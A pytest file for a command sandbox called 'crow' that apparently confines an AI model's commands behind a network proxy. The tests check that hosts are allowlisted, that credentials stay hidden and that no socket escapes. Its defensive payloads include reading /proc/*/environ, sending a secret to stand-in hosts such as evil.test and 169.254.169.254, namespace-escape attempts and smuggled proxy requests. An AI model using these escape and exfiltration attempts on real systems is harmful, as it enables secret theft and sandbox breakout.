"""The network of commands that run in a real sandbox, as root and as an ordinary user."""

from __future__ import annotations

import os
import shlex
import shutil
import socket
import sys
import tempfile
import threading
from collections.abc import Iterator, Sequence
from contextlib import contextmanager, suppress
from typing import Any

import pytest

from crow.programs import SYSTEM_PROGRAMS
from crow.tools.network import LISTENER_PORT, Credentials, Host, HostVerdict, Use, enter
from crow.tools.network.authority import Authority
from crow.tools.network.credentials import Credential
from crow.tools.network.gate import Gate
from crow.tools.network.proxy import Proxy
from tests.tools.confined import USERS, Place, as_user, unwatched
from tests.tools.network.servers import resolve_to_loopback, serving

users = pytest.mark.parametrize("user", USERS)
SYSTEM_PYTHON = SYSTEM_PROGRAMS.find("python3")


@pytest.fixture(autouse=True)
def readable_helper(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """Lets every user start the helper: with the Python of the system, and from a directory that all can read."""
    with tempfile.TemporaryDirectory(prefix="crow-test-", dir="/tmp") as directory:
        os.chmod(directory, 0o755)
        copy = shutil.copy(enter.__file__, directory)
        os.chmod(copy, 0o644)
        monkeypatch.setattr(enter, "__file__", copy)
        monkeypatch.setattr(sys, "executable", SYSTEM_PYTHON or sys.executable)
        yield


async def run_line(place: Place, line: str, allowed: Sequence[str] = (), **options: Any) -> tuple[int | None, str, str]:
    """Run a command line in a layer. Return its exit code and output, and what the model is told about hosts."""

    async def judge(host: Host, _use: Use | None) -> HostVerdict:
        return HostVerdict() if str(host) in allowed else HostVerdict(refusal="the user did not allow it")

    workspace = place.open(layers=place.base / "layers", **options)
    gate = Gate(judge)
    assert workspace.layers is not None
    layer = await workspace.layers.open()
    assert layer is not None
    try:
        code, output = await workspace.run(
            line,
            access="write",
            timeout_s=60,
            on_output=unwatched,
            layer=layer,
            network=Proxy(gate, resolve_to_loopback),
        )
    finally:
        await workspace.layers.drop(layer)
        await workspace.close()
    return code, output, gate.describe()


def python(code: str) -> str:
    return f"{shlex.quote(SYSTEM_PYTHON or 'python3')} -I -S -c {shlex.quote(code)}"


FETCH = """
import urllib.request, urllib.error
for url in URLS:
    try:
        print(urllib.request.urlopen(url, timeout=30).read().decode())
    except urllib.error.HTTPError as error:
        print(error.code)
"""


@users
def test_a_command_reaches_the_hosts_that_are_allowed_and_no_others(user: str) -> None:
    async def scenario(place: Place) -> Any:
        async with serving() as good, serving() as other:
            urls = [f"http://good.test:{good.port}/", f"http://other.test:{other.port}/"]
            found = await run_line(place, python(f"URLS = {urls}{FETCH}"), [f"good.test:{good.port}"])
            return found, len(good.received), other.received, other.port

    (code, output, told), requests, others, port = as_user(user, scenario, needs="bubblewrap")
    assert (code, output.split(), requests, others) == (0, ["hello", "403"], 1, [])
    assert told == f"[Hosts not reached: other.test:{port}: the user did not allow it]"


@pytest.mark.long
@users
def test_two_commands_after_each_other_both_have_a_proxy(user: str) -> None:
    async def scenario(place: Place) -> Any:
        async with serving() as good:
            line = python(f"URLS = ['http://good.test:{good.port}/']{FETCH}")
            return [(await run_line(place, line, [f"good.test:{good.port}"]))[1] for _ in range(2)]

    assert as_user(user, scenario, needs="bubblewrap") == ["hello\n"] * 2


@pytest.mark.long
@users
def test_a_command_uses_a_credential_that_it_cannot_see(user: str) -> None:
    real = Authority(["good.test"])

    async def scenario(place: Place) -> Any:
        ca_file = place.base / "ca.pem"
        ca_file.write_bytes(real.pem)
        async with serving(tls=real.context("good.test")) as good:
            host = Host("good.test", good.port)
            credential = Credential(host=host, read=lambda: ("the-s3cret-1", "Bearer the-s3cret-1"), ca_file=ca_file)
            url = f"https://good.test:{good.port}/"
            line = python(f"URLS = ['{url}']{FETCH}") + "; cat /proc/*/environ; touch $(dirname $SSL_CERT_FILE)/x"
            found = await run_line(place, line, [str(host)], credentials=Credentials([credential]))
            return found, [request.decode() for request in good.received]

    (_, output, told), requests = as_user(user, scenario, needs="bubblewrap")
    assert output.startswith("hello\n")
    assert "Read-only file system" in output
    assert "the-s3cret-1" not in output
    assert told == ""
    assert ["\r\nAuthorization: Bearer the-s3cret-1\r\n" in request for request in requests] == [True]


def test_with_the_whole_network_there_is_no_proxy() -> None:
    async def scenario(place: Place) -> Any:
        return await run_line(place, "echo ${HTTP_PROXY-none}", network=True)

    assert as_user(USERS[0], scenario, needs="bubblewrap")[1] == os.environ.get("HTTP_PROXY", "none") + "\n"


TRIES = """
import errno, os, socket, struct, sys
tried = 0
def attempt(function, *arguments):
    global tried
    tried += 1
    try:
        function(*arguments)
    except (OSError, ValueError, OverflowError):
        pass
def stream(family, address, *more):
    with socket.socket(family, socket.SOCK_STREAM, *more) as one:
        one.settimeout(2)
        one.connect(address)
        one.sendall(SECRET)
def datagram(family, address, *more):
    with socket.socket(family, socket.SOCK_DGRAM, *more) as one:
        one.sendto(SECRET, address)
def raw(family, kind, number):
    with socket.socket(family, kind, number) as one:
        one.sendto(SECRET, ("127.0.0.1", 0))
for host in ("127.0.0.1", "127.0.0.2", "0.0.0.0", "10.0.0.1", "192.0.2.1", "169.254.169.254", "8.8.8.8", *OWN):
    for port in (*PORTS, 53, 80, 443):
        attempt(stream, socket.AF_INET, (host, port))
        attempt(datagram, socket.AF_INET, (host, port))
for host in ("::1", "::ffff:127.0.0.1", "fe80::1", "2001:db8::1"):
    for port in PORTS:
        attempt(stream, socket.AF_INET6, (host, port))
        attempt(datagram, socket.AF_INET6, (host, port))
for name in ("evil.test", "localhost", "the-secret-of-the-workspace.evil.test"):
    attempt(socket.getaddrinfo, name, PORTS[0])
    attempt(socket.gethostbyname, name)
for path in ("\\0crow-test-" + str(PORTS[0]), PATH, "/run/systemd/resolve/io.systemd.Resolve", "/var/run/nscd/socket"):
    attempt(stream, socket.AF_UNIX, path)
    attempt(datagram, socket.AF_UNIX, path)
for number in (1, 2, 6, 17, 58, 132, 255):
    attempt(raw, socket.AF_INET, socket.SOCK_RAW, number)
    attempt(raw, socket.AF_INET, socket.SOCK_DGRAM, number)
for family in range(1, 46):
    for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        if family not in (socket.AF_INET, socket.AF_INET6, socket.AF_NETLINK):
            attempt(socket.socket, family, kind)
def fast_open():
    with socket.socket() as one:
        one.sendto(SECRET, 0x20000000, ("127.0.0.1", PORTS[0]))
attempt(fast_open)
def pair():
    one, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    one.connect(PATH)
attempt(pair)
for name in os.listdir("/proc/self/fd"):
    if int(name) > 2:
        attempt(os.write, int(name), SECRET)
for place in ("/proc/1/root", "/proc/1/fd", "/proc/1/ns/net", "/proc/self/ns/net", "/sys/class/net"):
    attempt(os.listdir, place)
def enter(pid, kind):
    import ctypes
    handle = os.open(f"/proc/{pid}/ns/net", os.O_RDONLY)
    if ctypes.CDLL(None, use_errno=True).setns(handle, kind):
        raise OSError(ctypes.get_errno(), "setns")
    stream(socket.AF_INET, ("127.0.0.1", PORTS[0]))
for pid in (1, 2, os.getppid()):
    attempt(enter, pid, 0x40000000)
def through(line):
    with socket.create_connection(("127.0.0.1", PROXY), timeout=5) as one:
        one.sendall(line)
        one.shutdown(socket.SHUT_WR)
        while one.recv(9999):
            pass
for port in PORTS:
    for host in (b"127.0.0.1", b"localhost", b"evil.test", b"[::1]", b"0x7f.1", b"127.0.0.1.nip.io"):
        place = b"%s:%d" % (host, port)
        attempt(through, b"CONNECT %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n%s" % (place, place, SECRET))
        attempt(through, b"GET http://%s/%s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % (place, SECRET, place))
        attempt(through, b"\\x05\\x01\\x00" + SECRET)
print(tried)
"""


@contextmanager
def open_doors(path: str) -> Iterator[tuple[list[bytes], list[int]]]:
    """Sockets of this machine to which a command might talk: TCP, UDP, and Unix sockets. Yields what they got."""
    tcp, udp = socket.create_server(("0.0.0.0", 0)), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("0.0.0.0", 0))
    port = tcp.getsockname()[1]
    named, abstract = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM), socket.socket(socket.AF_UNIX)
    named.bind(path)
    os.chmod(path, 0o777)
    abstract.bind(f"\0crow-test-{port}")
    abstract.listen()
    doors, got = (tcp, udp, named, abstract), list[bytes]()

    def note(door: socket.socket) -> None:
        door.settimeout(None)
        with suppress(OSError):
            got.append(b"connected" if door in (tcp, abstract) and door.accept() else door.recv(9_999))

    threads = [threading.Thread(target=note, args=(door,), daemon=True) for door in doors]
    for thread in threads:
        thread.start()
    try:
        yield got, [port, udp.getsockname()[1]]
    finally:
        for door in doors:
            with suppress(OSError):
                door.shutdown(socket.SHUT_RDWR)
            door.close()


@users
def test_no_socket_of_a_command_leads_out_of_its_sandbox(user: str) -> None:
    if SYSTEM_PYTHON is None:
        pytest.skip("there is no Python of the system")

    async def scenario(place: Place) -> Any:
        path = str(place.root / "door.sock")
        own = [entry[4][0] for entry in socket.getaddrinfo(socket.gethostname(), None, socket.AF_INET)]
        with open_doors(path) as (got, ports):
            settings = f"SECRET = b'the-secret'; PORTS = {ports}; OWN = {own}; PATH = {path!r}; PROXY = {LISTENER_PORT}"
            found = await run_line(place, python(settings + TRIES), ["good.test"])
            return found[:2], [data.decode("latin-1") for data in got]

    (code, output), got = as_user(user, scenario, needs="bubblewrap")
    assert code == 0, output
    assert int(output) >= 300
    assert got == []


def test_nothing_of_the_proxy_is_inherited_by_a_command() -> None:
    async def scenario(place: Place) -> Any:
        return await run_line(place, "ls -l /proc/self/fd; cat /proc/net/tcp | wc -l; cat /proc/net/unix | wc -l")

    _, output, _ = as_user(USERS[0], scenario, needs="bubblewrap")
    lines = output.splitlines()
    opened = [line.split()[8] for line in lines if " -> " in line]
    assert opened == ["0", "1", "2", "3"], "standard streams, and the directory that is listed"
    assert [int(line) for line in lines[-2:]] == [2, 1], "the listening socket alone, and no Unix socket"
